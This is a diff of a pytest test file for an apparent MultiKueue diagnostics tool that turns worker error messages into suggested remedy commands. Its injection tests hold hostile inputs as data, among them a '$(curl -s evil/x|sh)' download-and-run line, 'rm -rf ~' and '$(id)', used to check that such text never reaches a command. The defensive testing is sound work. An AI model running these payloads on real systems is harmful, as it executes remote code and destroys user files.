@@ -30,9 +30,9 @@ ACCOUNT = "system:serviceaccount:kueue-system:multikueue"
 WORKERS = [
     ("bad-token", "w1: list workloads.kueue.x-k8s.io: Unauthorized"),
     *(
-        ("rbac", told.replace('"x"', f'"{user}"'))
+        ("rbac", words.replace('"x"', f'"{user}"'))
         for user in (ACCOUNT, "x")
-        for told in (f"w1: watch pods: {UNWATCHED}", f"w1: create pods: {DENIED}")
+        for words in (f"w1: watch pods: {UNWATCHED}", f"w1: create pods: {DENIED}")
     ),
     ("webhook", 'admission webhook "v.example.com" denied the request: no namespaces "x" not found'),
     ("webhook-down", 'Internal error occurred: failed calling webhook "v.example.com": connection refused'),
@@ -68,48 +68,48 @@ MANAGER = [
 @pytest.mark.parametrize(
     ("rules", "expected", "told"),
     [
-        (rules, expected, told)
+        (rules, expected, words)
         for rules, rows in ((WORKER_RULES, WORKERS), (MANAGER_RULES, MANAGER))
-        for expected, told in rows
+        for expected, words in rows
     ],
 )
 def test_words_lead_to_their_row(rules: tuple[RemedyRule, ...], expected: str, told: str) -> None:
-    found = found_by(rules, "w1", told, CONTEXT)
+    finding = found_by(rules, "w1", told, CONTEXT)
 
-    assert found is not None
-    assert found.id == expected
-    for text in (found.why, found.remedy):
+    assert finding is not None
+    assert finding.id == expected
+    for text in (finding.why, finding.remedy):
         assert text
         assert "{" not in text
         assert "  " not in text
 
 
 @pytest.mark.parametrize(
-    ("told", "helps"), [(DENIED, True), (UNWATCHED, False), (UNWATCHED.replace("watch", "list"), False)]
+    ("words", "helps"), [(DENIED, True), (UNWATCHED, False), (UNWATCHED.replace("watch", "list"), False)]
 )
-def test_a_retry_of_a_job_is_no_remedy_where_its_kind_cannot_be_watched(told: str, helps: bool) -> None:
+def test_a_retry_of_a_job_is_no_remedy_where_its_kind_cannot_be_watched(words: str, helps: bool) -> None:
     """Seen beside Kueue 0.19.2: with the rights granted, no job could be asked again that would have changed it."""
-    found = found_by(WORKER_RULES, "w1", told, CONTEXT)
+    finding = found_by(WORKER_RULES, "w1", words, CONTEXT)
 
-    assert found is not None
-    assert ("multikueue retry" in found.remedy) is helps
+    assert finding is not None
+    assert ("multikueue retry" in finding.remedy) is helps
 
 
-@pytest.mark.parametrize("told", [DENIED, UNWATCHED])
-def test_a_right_that_is_missing_is_granted_to_the_account_that_is_named(told: str) -> None:
-    found = about_worker("w1", told.replace('"x"', f'"{ACCOUNT}"'), CONTEXT)
+@pytest.mark.parametrize("words", [DENIED, UNWATCHED])
+def test_a_right_that_is_missing_is_granted_to_the_account_that_is_named(words: str) -> None:
+    finding = about_worker("w1", words.replace('"x"', f'"{ACCOUNT}"'), CONTEXT)
     command = (
         "multikueue rbac worker --least --service-account kueue-system/multikueue --name kueue-system-multikueue | "
         "kubectl --context w1 auth reconcile -f -;"
     )
-    assert command in found.remedy
-    assert "--service-account" not in about_worker("w1", told, CONTEXT).remedy, "a user that is none gets no such role"
+    assert command in finding.remedy
+    assert "--service-account" not in about_worker("w1", words, CONTEXT).remedy, "a user that is none gets no such role"
 
 
 @pytest.mark.parametrize(("rules", "rows"), [(WORKER_RULES, WORKERS), (MANAGER_RULES, MANAGER)])
 def test_every_row_is_reached(rules: tuple[RemedyRule, ...], rows: list[tuple[str, str]]) -> None:
     reached = {
-        next(number for number, rule in enumerate(rules) if rule.pattern.search(told) is not None) for _, told in rows
+        next(number for number, rule in enumerate(rules) if rule.pattern.search(words) is not None) for _, words in rows
     }
     assert reached == set(range(len(rules)))
 
@@ -146,13 +146,13 @@ OURS = (
 )
 
 
-@pytest.mark.parametrize("told", OURS)
-def test_no_row_reads_what_we_say_ourselves(told: str) -> None:
-    assert about_worker("w1", told, CONTEXT).id == "unknown"
+@pytest.mark.parametrize("words", OURS)
+def test_no_row_reads_what_we_say_ourselves(words: str) -> None:
+    assert about_worker("w1", words, CONTEXT).id == "unknown"
 
 
 @pytest.mark.parametrize(
-    "told",
+    "words",
     [
         'workloads is forbidden: Secret "oslo$(curl -s evil/x|sh)" not found',
         'key "x" not found in secret "y; rm -rf ~"',
@@ -163,21 +163,21 @@ def test_no_row_reads_what_we_say_ourselves(told: str) -> None:
         *OURS,
     ],
 )
-def test_what_a_worker_says_never_meets_a_row_about_our_configuration(told: str) -> None:
+def test_what_a_worker_says_never_meets_a_row_about_our_configuration(words: str) -> None:
     """A worker that answered 403 with such a text had `status` and `explain` print its command to paste."""
-    found = about_worker("w1", told, CONTEXT)
-    assert found.id not in {one.id for one in BY_CAUSE.values()}
+    finding = about_worker("w1", words, CONTEXT)
+    assert finding.id not in {remedy.id for remedy in BY_CAUSE.values()}
     for text in ("curl", "rm -rf", "$(", "`"):
-        assert text not in found.remedy
+        assert text not in finding.remedy
 
 
 @pytest.mark.parametrize(
     "name", ["--all", "-A", "a b", "a;b", "$(id)", "`id`", "a|b", "a\nb", "..", "", "a" * 254, "é", "\u202ea"]
 )
 def test_what_is_no_name_enters_no_command(name: str) -> None:
-    told = f'LocalQueue "{name}" is inactive'
-    found = found_by(WORKER_RULES, "w1", told, CONTEXT)
-    assert found is None or name in ("", "a\nb") or name not in found.remedy.split()
+    words = f'LocalQueue "{name}" is inactive'
+    finding = found_by(WORKER_RULES, "w1", words, CONTEXT)
+    assert finding is None or name in ("", "a\nb") or name not in finding.remedy.split()
     for template in ("kubectl get {name}", "multikueue retry {name}"):
         remedy = filled(template, {"name": name})
         assert remedy in (
@@ -194,11 +194,11 @@ def test_names_enter_commands_as_they_are(name: str) -> None:
 @pytest.mark.parametrize("cause", BY_CAUSE)
 def test_a_cause_leads_to_its_remedy_whatever_the_message_says(cause: str) -> None:
     names = {**CONTEXT, "secret": "oslo", "profile": "oslo", "worker": "oslo-2"}
-    found = about_worker("w1", "$(id)", names, connected=False, cause=cause)
+    finding = about_worker("w1", "$(id)", names, connected=False, cause=cause)
 
-    assert found.id == BY_CAUSE[cause].id
-    assert "$(id)" not in found.remedy
-    for text in (found.why, found.remedy):
+    assert finding.id == BY_CAUSE[cause].id
+    assert "$(id)" not in finding.remedy
+    for text in (finding.why, finding.remedy):
         assert "{" not in text
         assert "oslo-2" not in text
 
@@ -222,8 +222,8 @@ def test_a_text_without_end_costs_no_more_than_it_is_long(rules: tuple[RemedyRul
 @pytest.mark.parametrize("job", ["namespace/kube-system", "clusterqueue.kueue.x-k8s.io/all", "job.lab.example.com/a"])
 def test_only_jobs_of_kinds_that_come_with_us_are_deleted_by_a_command(job: str) -> None:
     """Whoever may create Workloads says who owns them, and whoever may create events that a name is taken."""
-    found = about_worker("w1", "told", {**CONTEXT, "job": job}, cause=Cause.NAME_TAKEN)
-    assert "kubectl" not in found.remedy
+    finding = about_worker("w1", "told", {**CONTEXT, "job": job}, cause=Cause.NAME_TAKEN)
+    assert "kubectl" not in finding.remedy
     known = about_worker("w1", "told", CONTEXT, cause=Cause.NAME_TAKEN)
     assert "kubectl --context w1 -n team delete job/a;" in known.remedy
 
